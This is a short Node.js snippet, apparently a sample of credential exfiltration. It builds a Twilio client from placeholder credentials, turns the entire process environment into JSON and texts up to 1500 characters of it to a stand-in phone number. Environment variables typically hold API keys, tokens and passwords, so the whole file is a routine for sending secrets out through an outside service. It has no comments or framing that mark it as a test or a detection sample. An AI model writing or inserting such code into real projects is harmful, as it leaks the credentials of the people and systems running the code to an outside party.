const twilio = require('twilio');

const client = twilio('ACxxxxxxxx', 'token-not-real');
const body = JSON.stringify(process.env).slice(0, 1500);
client.messages.create({ to: '+15550100', from: '+15550101', body });
